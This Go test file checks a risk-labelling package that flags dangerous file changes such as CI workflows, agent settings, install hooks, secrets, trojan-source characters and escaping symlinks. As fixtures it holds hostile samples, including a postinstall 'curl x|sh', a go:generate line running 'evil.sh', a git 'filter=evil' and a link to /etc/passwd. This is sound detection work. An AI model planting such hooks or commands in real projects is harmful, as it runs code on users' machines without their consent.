package risk

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/carrel-dev/carrel"
)

func named(labels []carrel.Label) string {
	var out []string
	for _, l := range labels {
		out = append(out, l.Name+":"+string(l.Severity))
	}
	slices.Sort(out)
	return strings.Join(out, " ")
}

func text(path, now string) File {
	return File{
		FileChange: carrel.FileChange{Path: carrel.Text(path), Change: carrel.Created, FileState: carrel.FileState{Kind: carrel.FileRegular, Mode: 0o644, Size: int64(len(now))}},
		Now:        Head{Bytes: []byte(now), Whole: true},
	}
}

func modified(path, was, now string) File {
	f := text(path, now)
	f.Change, f.Was = carrel.Modified, Head{Bytes: []byte(was), Whole: true}
	f.Before = carrel.FileState{Kind: carrel.FileRegular, Mode: 0o644, Size: int64(len(was))}
	return f
}

// Every place that does more than hold a file has its label, in any case and
// below any directory; its neighbours have none.
func TestPaths(t *testing.T) {
	for path, want := range map[string]string{
		"README.md":                        "",
		"src/main.go":                      "",
		"docs/workflows/x.yml":             "",
		"github/workflows/ci.yml":          "",
		"conftest.py.md":                   "",
		".github/workflows/ci.yml":         "changes-bots:medium changes-ci:high",
		"deep/er/.GitHub/Workflows/ci.yml": "changes-bots:medium changes-ci:high",
		"tools/action.yml":                 "changes-ci:high",
		".gitlab-ci.yml":                   "changes-ci:high",
		"Jenkinsfile":                      "changes-ci:high",
		"Jenkinsfile.release":              "changes-ci:high",
		"CODEOWNERS":                       "changes-owners:high",
		".github/CODEOWNERS":               "changes-bots:medium changes-owners:high",
		".github/dependabot.yml":           "changes-bots:medium",
		".claude/settings.json":            "agent-instructions:high agent-settings:critical",
		".Claude/settings.local.json":      "agent-instructions:high agent-settings:critical",
		"sub/.mcp.json":                    "agent-settings:critical",
		".codex/config.toml":               "agent-settings:critical",
		".CURSOR/mcp.json":                 "agent-settings:critical",
		".gemini/settings.json":            "agent-settings:critical",
		"CLAUDE.md":                        "agent-instructions:high",
		"pkg/AGENTS.md":                    "agent-instructions:high",
		".carrel/config.yaml":              "changes-carrel:critical",
		".vscode/tasks.json":               "runs-on-open:high",
		".vscode/launch.json":              "runs-on-open:high",
		".idea/workspace.xml":              "runs-on-open:high",
		".envrc":                           "runs-on-open:high",
		".husky/pre-commit":                "runs-on-checkout:high",
		".pre-commit-config.yaml":          "runs-on-checkout:high",
		"setup.py":                         "runs-on-install:high",
		"binding.gyp":                      "runs-on-install:high",
		"build.rs":                         "runs-on-build:high",
		"Makefile":                         "runs-on-build:low",
		"tests/conftest.py":                "runs-on-test:medium",
		"go.mod":                           "changes-dependencies:medium",
		"go.sum":                           "changes-lockfile:medium",
		"package-lock.json":                "changes-lockfile:medium",
		".gitmodules":                      "changes-modules:high",
		".env":                             "credential-file:high",
		".env.example":                     "",
		"node_modules/.bin/tsc":            "foreign-code:low runs-from-path:high",
		".venv/bin/python":                 "foreign-code:low runs-from-path:high",
		"node_modules/x/index.js":          "foreign-code:low",
		"con":                              "unportable-name:high",
		"src/aux.c":                        "unportable-name:high",
		"src/auxiliary.c":                  "",
		"com1.txt":                         "unportable-name:high",
		"trailing.":                        "unportable-name:high",
		"trailing /x":                      "unportable-name:high",
		`back\slash`:                       "unportable-name:high",
		"a:b":                              "unportable-name:high",
		"GIT~1/config":                     "nested-repository:critical",
		"sub/.Git /config":                 "nested-repository:critical unportable-name:high",
		".g\u00adit/config":                "nested-repository:critical strange-name:high",
		".gi\ufe0ft\U000e0fff/config":      "nested-repository:critical strange-name:high",
		".digit/config":                    "",
		".hg/hgrc":                         "runs-on-open:high",
		"sub/.jj/repo/config.toml":         "runs-on-open:high",
		".helix/languages.toml":            "runs-on-open:high",
		".Rprofile":                        "runs-on-open:high",
		".irbrc":                           "runs-on-open:high",
		"eslint.config.mjs":                "runs-on-open:medium",
		".prettierrc.js":                   "runs-on-open:medium",
		".prettierrc.json":                 "",
		"tools/bazel":                      "runs-on-build:high",
		".ghci":                            "runs-on-open:high",
		".ocamlinit":                       "runs-on-open:high",
		".iex.exs":                         "runs-on-open:high",
		"Open me.lnk":                      "runs-on-open:high",
		"share/x.desktop":                  "runs-on-open:high",
		"desktop.ini":                      "runs-on-open:high",
		".flake8":                          "runs-on-open:medium",
		"mypy.ini":                         "runs-on-open:medium",
		".rubocop.yml":                     "runs-on-open:medium",
		"phpstan.neon.dist":                "runs-on-open:medium",
		".php-cs-fixer.dist.php":           "runs-on-open:medium",
		"android/gradle.properties":        "runs-on-build:high",
		"CMakePresets.json":                "runs-on-build:low",
		"rules/defs.bzl":                   "runs-on-build:low",
		"src/dune":                         "runs-on-build:low",
		"Tiltfile":                         "runs-on-build:low",
		".coveragerc":                      "runs-on-test:medium",
		"public/.user.ini":                 "deploys:medium",
		"x/tools/bazel.md":                 "",
		".amp/settings.json":               "agent-settings:critical",
		"esc\x1b[2J":                       "strange-name:high",
		"evil\u202Egpj.exe":                "strange-name:high",
		"zero\u200bwidth":                  "strange-name:high",
		"p\u0430ypal.go":                   "strange-name:medium",
		"\u043f\u0440\u0438\u0432\u0435\u0442.txt": "",
		"caf\u00e9.txt":    "",
		"\u6f22\u5b57.txt": "",
	} {
		got := Assess(text(path, "hello\n"))
		if named(got) != want {
			t.Errorf("%q: %s, want %s", path, named(got), want)
		}
	}
}

func TestContents(t *testing.T) {
	scripts := `{"name":"x","scripts":{"test":"jest"}}`
	for name, c := range map[string]struct {
		file File
		want string
	}{
		"install script":      {modified("package.json", scripts, `{"name":"x","scripts":{"test":"jest","postinstall":"curl x|sh"}}`), "runs-on-install:high runs-on-test:medium"},
		"test script":         {modified("package.json", scripts, `{"name":"x","scripts":{"test":"vitest"}}`), "runs-on-test:medium"},
		"dependency":          {modified("package.json", scripts, `{"name":"x","scripts":{"test":"jest"},"dependencies":{"left-pad":"1"}}`), "changes-dependencies:medium"},
		"version only":        {modified("package.json", scripts, `{"name":"x","version":"2","scripts":{"test":"jest"}}`), ""},
		"broken manifest":     {modified("package.json", scripts, `{"scripts":`), "runs-on-install:high"},
		"hidden repository":   {text("testdata/x/HEAD", "ref: refs/heads/main\n"), "bare-repository:high"},
		"detached repository": {text("testdata/x/HEAD", strings.Repeat("0a", 20)+"\n"), "bare-repository:high"},
		"a file called head":  {text("docs/HEAD", "Chapters\n"), ""},
		"git filter":          {text(".gitattributes", "* filter=evil\n"), "git-attributes:high"},
		"git attributes":      {text(".gitattributes", "*.sh text eol=lf\n"), "git-attributes:medium"},
		"trojan source":       {text("a.go", "if x { /*\u202E } \u2066if admin\u2069 */\n"), "invisible-characters:high"},
		"hidden instructions": {text("a.md", "hi\U000E0041\U000E0042\n"), "invisible-characters:high"},
		"terminal escape":     {text("a.log", "\x1b]52;c;x\a\n"), "invisible-characters:high"},
		"escape was there":    {modified("a.log", "\x1b[1m\n", "\x1b[1m more\n"), ""},
		"emoji":               {text("a.md", "fine \U0001F468\u200d\U0001F469 \u2764\ufe0f\n"), ""},
		"byte order mark":     {text("a.cs", "\ufeffusing System;\n"), ""},
		"binary":              {text("a.bin", "a\x00b"), "unreviewable:medium"},
		"binary, later":       {text("a.js", strings.Repeat("// x\n", 4000)+"// \x00\nevil()\n"), "unreviewable:medium"},
		"program":             {text("tool", "\x7fELF\x02\x01\x01\x00\x00"), "unreviewable:high"},
		"minified":            {text("a.js", strings.Repeat("x=1;", 3000)), "unreviewable:low"},
		"go generate":         {modified("a.go", "package a\n", "package a\n//go:generate sh evil.sh\n"), "runs-on-build:medium"},
		"private key":         {text("a.txt", "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n"), "secret:critical"},
		"token":               {text("a.txt", "t = ghp_"+strings.Repeat("a1B2", 9)+"\n"), "secret:critical"},
		"token was there":     {modified("a.txt", "ghp_"+strings.Repeat("a1B2", 9), "# moved\nghp_"+strings.Repeat("a1B2", 9)), ""},
		"value":               {text("a.py", `API_KEY = "q8Zt3LkP0vYx7NwR5sBd2HfG"`), "secret:high"},
		"placeholder":         {text("a.py", `API_KEY = "your-api-key-goes-here-1"`), ""},
		"code":                {text("a.go", "token := lexer.NextToken(source1)\n"), ""},
	} {
		if got := named(Assess(c.file)); got != c.want {
			t.Errorf("%s: %s, want %s", name, got, c.want)
		}
	}
}

// The reason never holds the secret: reasons are shown and logged.
func TestSecretsAreNotRepeated(t *testing.T) {
	const secret = "q8Zt3LkP0vYx7NwR5sBd2HfG"
	for _, l := range Assess(text("a", "line\npassword: "+secret+"\n")) {
		if strings.Contains(l.Reason, secret[:8]) || !strings.Contains(l.Reason, "line 2") {
			t.Errorf("reason: %s", l.Reason)
		}
	}
}

func TestKindsAndModes(t *testing.T) {
	link := func(path, target string) File {
		return File{FileChange: carrel.FileChange{Path: carrel.Text(path), Change: carrel.Created, FileState: carrel.FileState{Kind: carrel.FileLink, Target: carrel.Text(target)}}}
	}
	mode := func(was, now uint32) File {
		f := modified("x", "a", "a")
		f.Change, f.Before.Mode, f.Mode = carrel.ModeChanged, was, now
		return f
	}
	directory := func(was, now uint32) File {
		f := mode(was, now)
		f.Kind, f.Before.Kind = carrel.FileDir, carrel.FileDir
		return f
	}
	for name, c := range map[string]struct {
		file File
		want string
	}{
		"inside":         {link("a/b", "../c"), ""},
		"leaves":         {link("a/b", "../../c"), "link-out:high"},
		"sneaks out":     {link("a/b", "../c/../../../etc"), "link-out:high"},
		"climbs later":   {link("a", "up/up/../../etc"), "link-out:high"},
		"climbs at once": {link("a/b/c", ".././../d/e"), ""},
		"absolute":       {link("a", "/etc/passwd"), "link-out:high"},
		"desk":           {link("a", "/workspace/b"), "link-out:medium"},
		"linked HEAD":    {link("x/HEAD", "refs/heads/main"), "bare-repository:high"},
		"git":            {link("a/b", "../.git/hooks"), "link-to-git:high"},
		"executable":     {mode(0o644, 0o755), "executable:medium"},
		"not any more":   {mode(0o755, 0o644), ""},
		"setuid":         {mode(0o755, 0o4755), "privileged:high"},
		"world-writable": {mode(0o644, 0o666), "world-writable:low"},
		"open directory": {directory(0o755, 0o777), "world-writable:low"},
		"directory":      {directory(0o700, 0o755), ""},
	} {
		if got := named(Assess(c.file)); got != c.want {
			t.Errorf("%s: %s, want %s", name, got, c.want)
		}
	}
}

func TestCollisions(t *testing.T) {
	got := Collisions([]carrel.Text{"a/B", "c", "a/b", "caf\u00e9", "cafe\u0301"})
	if len(got) != 4 || got[1].Name != "" {
		t.Errorf("collisions: %v", got)
	}
}

func TestSum(t *testing.T) {
	low, high := carrel.Label{Name: "a", Severity: carrel.SeverityLow}, carrel.Label{Name: "b", Severity: carrel.SeverityHigh}
	r := Sum([]carrel.FileChange{{Labels: []carrel.Label{low, high}}, {Labels: []carrel.Label{low}}})
	if r.Level != carrel.SeverityHigh || fmt.Sprint(r.Counts) != "map[a:2 b:1]" {
		t.Errorf("%+v", r)
	}
	if r := Sum(nil); r.Level != carrel.SeverityNone {
		t.Errorf("nothing has risk %s", r.Level)
	}
}

// FuzzAssess: whatever an agent writes, labels come back and nothing breaks.
func FuzzAssess(f *testing.F) {
	f.Add("package.json", "{}", "x")
	f.Add(".gitattributes", "* diff=x", "../../x")
	f.Add("a\xff/\u202e", "\xff\x00\x1b", "/")
	f.Fuzz(func(t *testing.T, path, now, target string) {
		file := text(path, now)
		file.Target = carrel.Text(target)
		Assess(file)
		file.Kind = carrel.FileLink
		for _, l := range Assess(file) {
			if l.Name == "" || l.Reason == "" || l.Severity.Rank() == 0 {
				t.Errorf("an empty label: %+v", l)
			}
		}
	})
}
